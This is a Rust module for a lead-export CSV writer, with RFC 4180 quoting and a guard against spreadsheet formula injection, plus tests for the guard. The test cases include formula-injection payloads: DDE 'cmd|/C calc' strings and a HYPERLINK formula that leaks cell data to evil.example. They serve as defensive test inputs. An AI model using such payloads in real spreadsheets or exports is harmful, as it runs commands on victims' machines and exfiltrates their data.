//! Writing the CSV: a header row of labels, then a row per lead; RFC 4180
//! quoting as the `csv` crate writes it (checked against it), UTF-8; the
//! formula guard. The defaults (no
//! BOM, `,`, CRLF) are the reference's dialect; `format` may ask for a BOM,
//! `;` or tab, and LF.

use std::borrow::Cow;
use std::io::Write;

use crate::fields::FieldList;
use crate::model::Lead;
use crate::request::{CsvFormat, LineEnding};

/// The cell as a spreadsheet may safely open it: a leading `'` when, after
/// any leading ASCII spaces, the cell starts with `=`, `@`, tab, CR or LF, or
/// starts with `+` or `-` and holds any character other than ASCII digits,
/// the ASCII space and `+ - ( ) . , /`. Phone numbers (`+1-555-0100`,
/// `+49 30 1234567`) and plain numbers (`-5`) stay as they are; `-1.5e3` is
/// guarded (the `e`).
///
/// "Whitespace" is the ASCII space only: a tab, a no-break space or any
/// other character after a leading sign gets the guard. Leading spaces are
/// skipped because LibreOffice's "Trim spaces" import option turns ` =1+1`
/// into a live formula. A cell already starting with `'`, a full-width `＝`
/// (U+FF1D), `﹦`, `⁼`, `＋`, `＠`, `−` (U+2212), a BOM or a no-break space
/// before `=` is left alone: LibreOffice keeps all of these as text
/// (`make spreadsheet-check`).
pub fn escape_formula(cell: &str) -> Cow<'_, str> {
    if needs_formula_guard(cell.as_bytes()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Whether [`escape_formula`] prefixes `cell`; bytes only (every byte it
/// looks at is ASCII), the common cell decided by its first byte.
fn needs_formula_guard(cell: &[u8]) -> bool {
    let start = cell.iter().position(|&b| b != b' ').unwrap_or(cell.len());
    let rest = &cell[start..];
    match rest.first() {
        Some(b'=' | b'@' | b'\t' | b'\r' | b'\n') => true,
        Some(b'+' | b'-') => !rest[1..].iter().all(|&b| {
            b.is_ascii_digit() || matches!(b, b' ' | b'+' | b'-' | b'(' | b')' | b'.' | b',' | b'/')
        }),
        _ => false,
    }
}

/// The UTF-8 byte order mark written first with `format.bom`.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The export's CSV dialect, RFC 4180 as the `csv` crate writes it with
/// `QuoteStyle::Necessary`: a cell holding the delimiter, `"`, CR or LF is
/// quoted (`"` doubled inside); a row whose only cell is empty is written
/// `""`; `format`'s delimiter and line ending. The writer is this module's
/// own (each cell goes straight into the row's bytes, with no record or
/// buffer in between: the per-row cost of the export); the property test
/// `rows_are_the_bytes_of_the_csv_crate` checks it against the `csv` crate
/// in every dialect.
#[derive(Debug, Clone)]
struct Dialect {
    /// The bytes that make a cell quoted.
    special: [bool; 256],
    delimiter: u8,
    terminator: &'static [u8],
    escape_formulas: bool,
}

impl Dialect {
    fn new(format: &CsvFormat) -> Self {
        let delimiter = format.delimiter.byte();
        let mut special = [false; 256];
        for b in [delimiter, b'"', b'\r', b'\n'] {
            special[b as usize] = true;
        }
        Dialect {
            special,
            delimiter,
            terminator: match format.line_ending {
                LineEnding::CrLf => b"\r\n",
                LineEnding::Lf => b"\n",
            },
            escape_formulas: format.escape_formulas,
        }
    }

    /// Appends one cell; `guard` puts the formula guard's `'` first.
    fn push_cell(&self, out: &mut Vec<u8>, cell: &[u8], guard: bool) {
        if !cell.iter().any(|&b| self.special[b as usize]) {
            if guard {
                out.push(b'\'');
            }
            out.extend_from_slice(cell);
            return;
        }
        out.reserve(cell.len() + 4);
        out.push(b'"');
        if guard {
            out.push(b'\'');
        }
        let mut rest = cell;
        while let Some(i) = rest.iter().position(|&b| b == b'"') {
            out.extend_from_slice(&rest[..=i]);
            out.push(b'"');
            rest = &rest[i + 1..];
        }
        out.extend_from_slice(rest);
        out.push(b'"');
    }

    /// Ends the row that began at `start` in `out`: `""` when nothing was
    /// written (one empty cell), then the line ending.
    fn end_row(&self, out: &mut Vec<u8>, start: usize) {
        if out.len() == start {
            out.extend_from_slice(b"\"\"");
        }
        out.extend_from_slice(self.terminator);
    }
}

/// Renders the CSV a row at a time: the header (after the BOM with
/// `format.bom`), then a row per lead, each cell through the formula guard
/// when `format.escape_formulas` is on (the one place it is applied to a
/// CSV). One per file; it reuses its buffers from row to row.
pub struct RowWriter<'f> {
    fields: &'f FieldList,
    dialect: Dialect,
    bom: bool,
    row: Vec<u8>,
    scratch: String,
    rows: usize,
}

impl<'f> RowWriter<'f> {
    /// A writer of `fields` with `format`.
    pub fn new(fields: &'f FieldList, format: &CsvFormat) -> Self {
        RowWriter {
            fields,
            dialect: Dialect::new(format),
            bom: format.bom,
            row: Vec::with_capacity(512),
            scratch: String::new(),
            rows: 0,
        }
    }

    /// The bytes of the header row (with the BOM first when asked for).
    pub fn header(&mut self) -> &[u8] {
        let mut row = std::mem::take(&mut self.row);
        row.clear();
        self.header_into(&mut row);
        self.row = row;
        &self.row
    }

    /// The bytes of the row of `lead`.
    pub fn row(&mut self, lead: &Lead) -> &[u8] {
        let mut row = std::mem::take(&mut self.row);
        row.clear();
        self.row_into(lead, &mut row);
        self.row = row;
        &self.row
    }

    /// Appends the header row (with the BOM first when asked for) to `out`.
    pub fn header_into(&mut self, out: &mut Vec<u8>) {
        if self.bom {
            out.extend_from_slice(BOM);
        }
        let start = out.len();
        for (i, column) in self.fields.columns().iter().enumerate() {
            if i > 0 {
                out.push(self.dialect.delimiter);
            }
            self.dialect.push_cell(out, column.header.as_bytes(), false);
        }
        self.dialect.end_row(out, start);
    }

    /// Appends the row of `lead` to `out`.
    pub fn row_into(&mut self, lead: &Lead, out: &mut Vec<u8>) {
        let RowWriter {
            fields,
            dialect,
            scratch,
            ..
        } = self;
        let start = out.len();
        for (i, column) in fields.columns().iter().enumerate() {
            if i > 0 {
                out.push(dialect.delimiter);
            }
            let cell = match column.cell_into(lead, scratch) {
                Some(cell) => cell,
                None => scratch.as_str(),
            };
            let guard = dialect.escape_formulas && needs_formula_guard(cell.as_bytes());
            dialect.push_cell(out, cell.as_bytes(), guard);
        }
        dialect.end_row(out, start);
        self.rows += 1;
    }

    /// Lead rows rendered so far.
    pub fn rows(&self) -> usize {
        self.rows
    }
}

/// Writes the header and one row per lead to `out`, 64 KB at a time.
pub fn write_csv<W: Write>(
    mut out: W,
    fields: &FieldList,
    leads: &[Lead],
    format: &CsvFormat,
) -> std::io::Result<W> {
    const CHUNK: usize = 64 << 10;
    let mut csv = RowWriter::new(fields, format);
    let mut buf = Vec::with_capacity(CHUNK + 4096);
    csv.header_into(&mut buf);
    for lead in leads {
        csv.row_into(lead, &mut buf);
        if buf.len() >= CHUNK {
            out.write_all(&buf)?;
            buf.clear();
        }
    }
    out.write_all(&buf)?;
    Ok(out)
}

/// The whole CSV in memory.
pub fn to_csv(fields: &FieldList, leads: &[Lead], format: &CsvFormat) -> Vec<u8> {
    write_csv(Vec::new(), fields, leads, format).expect("writing to a Vec cannot fail")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fields::Field;

    #[test]
    fn quotes_what_needs_quoting() {
        let lead = Lead {
            id: "1".into(),
            first_name: "Jane".into(),
            last_name: "O\"Neil".into(),
            emails: Some(vec!["a@x.com".into(), "b@y.com".into()]),
            job_title: Some("Head of\nSales".into()),
            city: Some("Zürich".into()),
            ..Lead::default()
        };
        let fields = FieldList::from_ids(
            [Field::Name, Field::Emails, Field::JobTitle, Field::City].map(Field::id),
        )
        .unwrap();
        let csv = String::from_utf8(to_csv(&fields, &[lead], &CsvFormat::default())).unwrap();
        assert_eq!(
            csv,
            "Name,Email(s),Job Title,City\r\n\"Jane O\"\"Neil\",\"a@x.com, b@y.com\",\"Head of\nSales\",Zürich\r\n"
        );
    }

    #[test]
    fn header_only_when_no_rows() {
        let csv = to_csv(&FieldList::defaults(), &[], &CsvFormat::default());
        assert_eq!(
            String::from_utf8(csv).unwrap(),
            "Name,Email(s),Phone(s),LinkedIn URL,City,Country,Job Title,Company Name\r\n"
        );
    }

    /// (cell, guarded?) for every documented example and the edge cases.
    const CASES: &[(&str, bool)] = &[
        // Formulas and their starts.
        ("=1+1", true),
        ("@SUM(A1)", true),
        ("+SUM(A1)", true),
        ("-2+3+cmd|'/C calc'!A0", true),
        ("=HYPERLINK(\"https://evil.example/?\"&A2&B2,\"x\")", true),
        ("=cmd|' /C calc'!A0", true),
        ("@", true),
        ("=", true),
        ("\t=1", true),
        ("\t", true),
        ("\r\n=1", true),
        ("\n", true),
        ("\rx", true),
        ("-1.5e3", true),
        ("+1 555 0100 ext. 12", true),
        ("-x", true),
        ("+-", false),
        ("+1\t555", true),
        ("+1\u{a0}555", true),
        ("-\u{2212}5", true),
        ("+A1", true),
        ("-5%", true),
        // Phones and numbers stay.
        ("+1-555-0100", false),
        ("+49 30 1234567", false),
        ("+1-555-0100, +1-555-0101", false),
        ("+1 (555) 010-0100", false),
        ("+33.1.23.45.67.89", false),
        ("+1/555/0100", false),
        ("-5", false),
        ("-1.5", false),
        ("-", false),
        ("+", false),
        ("--", false),
        ("12", false),
        // Not a first-character trigger.
        ("", false),
        ("'=1", false),
        ("' =1", false),
        (" =1", true),
        ("   @SUM(A1)", true),
        ("  +SUM(A1)", true),
        (" \t", true),
        (" -5", false),
        (" +1-555-0100", false),
        (" ", false),
        ("\u{a0}=1", false),
        ("\u{3000}=1", false),
        ("a=1", false),
        ("\u{feff}=1", false),
        ("\u{ff1d}1+1", false),
        ("\u{ff0b}SUM(A1)", false),
        ("\u{ff20}SUM(A1)", false),
        ("\u{2212}2+3", false),
        ("\u{fe66}1+1", false),
        ("Head of Sales", false),
        ("Zürich", false),
    ];

    #[test]
    fn formula_guard_table() {
        for &(cell, guarded) in CASES {
            let out = escape_formula(cell);
            if guarded {
                assert_eq!(out, format!("'{cell}"), "{cell:?} should be guarded");
                assert!(matches!(out, Cow::Owned(_)));
            } else {
                assert!(
                    matches!(out, Cow::Borrowed(c) if c == cell),
                    "{cell:?} should stay, got {out:?}"
                );
            }
        }
    }

    #[test]
    fn the_guard_applies_to_every_cell_of_a_row_and_can_be_turned_off() {
        let lead = Lead {
            id: "1".into(),
            first_name: "=1+1".into(),
            last_name: "x".into(),
            phones: Some(vec!["+1-555-0100".into(), "+1-555-0101".into()]),
            job_title: Some("-2+3+cmd|'/C calc'!A0".into()),
            city: Some("@SUM(A1)".into()),
            ..Lead::default()
        };
        let fields = FieldList::from_ids(
            [Field::Name, Field::Phones, Field::JobTitle, Field::City].map(Field::id),
        )
        .unwrap();
        let on = String::from_utf8(to_csv(
            &fields,
            std::slice::from_ref(&lead),
            &CsvFormat::default(),
        ));
        assert_eq!(
            on.unwrap(),
            "Name,Phone(s),Job Title,City\r\n'=1+1 x,\"+1-555-0100, +1-555-0101\",'-2+3+cmd|'/C calc'!A0,'@SUM(A1)\r\n"
        );
        let off = CsvFormat {
            escape_formulas: false,
            ..CsvFormat::default()
        };
        let off = String::from_utf8(to_csv(&fields, &[lead], &off));
        assert_eq!(
            off.unwrap(),
            "Name,Phone(s),Job Title,City\r\n=1+1 x,\"+1-555-0100, +1-555-0101\",-2+3+cmd|'/C calc'!A0,@SUM(A1)\r\n"
        );
    }

    /// Cells from every kind of text: any Unicode, CSV specials, triggers.
    fn any_cell() -> impl proptest::strategy::Strategy<Value = String> {
        use proptest::prelude::*;
        let piece = prop_oneof![
            any::<char>().prop_map(String::from),
            prop::sample::select(vec![
                "=", "@", "+", "-", "\t", "\r", "\n", "\r\n", "\"", ",", "'", " ", "1", "(", "e",
                "\u{ff1d}", "\u{feff}",
            ])
            .prop_map(String::from),
        ];
        prop::collection::vec(piece, 0..12).prop_map(|p| p.concat())
    }

    /// The columns [`lead_of`] fills, in order.
    const CELL_FIELDS: [Field; 4] = [Field::JobTitle, Field::City, Field::Country, Field::Emails];

    /// A lead whose `CELL_FIELDS` hold `cells` (1 to 4): one each, the
    /// emails the rest from the fourth (or the last) on.
    fn lead_of(cells: &[String]) -> Lead {
        Lead {
            id: "1".into(),
            job_title: Some(cells[0].clone()),
            city: cells.get(1).cloned(),
            country: cells.get(2).cloned(),
            emails: Some(cells[3.min(cells.len() - 1)..].to_vec()),
            ..Lead::default()
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

        /// Written and read back by a strict reader of the same dialect,
        /// every cell equals the guarded value (or the value, guard off).
        #[test]
        fn cells_round_trip_through_a_strict_reader(
            cells in proptest::collection::vec(any_cell(), 1..5),
            escape in proptest::prelude::any::<bool>(),
        ) {
            let lead = lead_of(&cells);
            let fields = FieldList::from_ids(CELL_FIELDS.map(Field::id)).unwrap();
            let format = CsvFormat { escape_formulas: escape, ..CsvFormat::default() };
            let bytes = to_csv(&fields, std::slice::from_ref(&lead), &format);
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(true)
                .flexible(false)
                .terminator(csv::Terminator::CRLF)
                .from_reader(&bytes[..]);
            let rows: Vec<csv::StringRecord> =
                reader.records().collect::<Result<_, _>>().unwrap();
            proptest::prop_assert_eq!(rows.len(), 1);
            let expected: Vec<String> = fields
                .fields()
                .iter()
                .map(|f| {
                    let cell = f.cell(&lead);
                    if escape { escape_formula(&cell).into_owned() } else { cell.into_owned() }
                })
                .collect();
            let got: Vec<&str> = rows[0].iter().collect();
            proptest::prop_assert_eq!(got, expected);
        }

        /// The guard adds one `'` or nothing, and a guarded cell no longer
        /// starts with a trigger.
        #[test]
        fn the_guard_only_prefixes(cell in any_cell()) {
            let out = escape_formula(&cell);
            if out.len() != cell.len() {
                proptest::prop_assert_eq!(&*out, format!("'{cell}"));
            } else {
                proptest::prop_assert_eq!(&*out, cell.as_str());
                let first = cell.trim_start_matches(' ').chars().next();
                proptest::prop_assert!(!matches!(first, Some('=' | '@' | '\t' | '\r' | '\n')));
            }
        }

        /// The rows are the bytes the `csv` crate writes for the same cells
        /// (`QuoteStyle::Necessary`, each guarded cell by `write_field`), in
        /// every dialect; one empty cell alone included (`""`).
        #[test]
        fn rows_are_the_bytes_of_the_csv_crate(
            cells in proptest::collection::vec(any_cell(), 1..5),
            escape in proptest::prelude::any::<bool>(),
            bom in proptest::prelude::any::<bool>(),
            delimiter in proptest::sample::select(vec![
                crate::request::Delimiter::Comma,
                crate::request::Delimiter::Semicolon,
                crate::request::Delimiter::Tab,
            ]),
            lf in proptest::prelude::any::<bool>(),
        ) {
            let lead = lead_of(&cells);
            let ids = CELL_FIELDS.map(Field::id);
            let fields = FieldList::from_ids(ids[..cells.len().min(4)].iter().copied()).unwrap();
            let format = CsvFormat {
                escape_formulas: escape,
                bom,
                delimiter,
                line_ending: if lf { LineEnding::Lf } else { LineEnding::CrLf },
            };
            let got = to_csv(&fields, std::slice::from_ref(&lead), &format);
            let mut expected = if bom { BOM.to_vec() } else { Vec::new() };
            let mut w = csv::WriterBuilder::new()
                .delimiter(delimiter.byte())
                .terminator(if lf { csv::Terminator::Any(b'\n') } else { csv::Terminator::CRLF })
                .quote_style(csv::QuoteStyle::Necessary)
                .from_writer(Vec::new());
            w.write_record(fields.columns().iter().map(|c| c.header)).unwrap();
            for field in fields.fields() {
                let cell = field.cell(&lead);
                let cell = if escape { escape_formula(&cell) } else { cell };
                w.write_field(cell.as_bytes()).unwrap();
            }
            w.write_record(None::<&[u8]>).unwrap();
            expected.extend(w.into_inner().unwrap());
            proptest::prop_assert_eq!(&got, &expected);
            // The same bytes a row at a time, and through write_csv.
            let mut rows = RowWriter::new(&fields, &format);
            let mut pieces = rows.header().to_vec();
            pieces.extend_from_slice(rows.row(&lead));
            proptest::prop_assert_eq!(&pieces, &expected);
            let written = write_csv(Vec::new(), &fields, std::slice::from_ref(&lead), &format).unwrap();
            proptest::prop_assert_eq!(written, expected);
        }

        /// The byte-wise guard decides as the definition reads: skip ASCII
        /// spaces, then the first character.
        #[test]
        fn the_byte_wise_guard_is_the_definition(cell in any_cell()) {
            let rest = cell.trim_start_matches(' ');
            let expected = match rest.chars().next() {
                Some('=' | '@' | '\t' | '\r' | '\n') => true,
                Some('+' | '-') => !rest.chars().skip(1).all(|c| {
                    c.is_ascii_digit() || " +-().,/".contains(c)
                }),
                _ => false,
            };
            proptest::prop_assert_eq!(needs_formula_guard(cell.as_bytes()), expected);
        }
    }
}
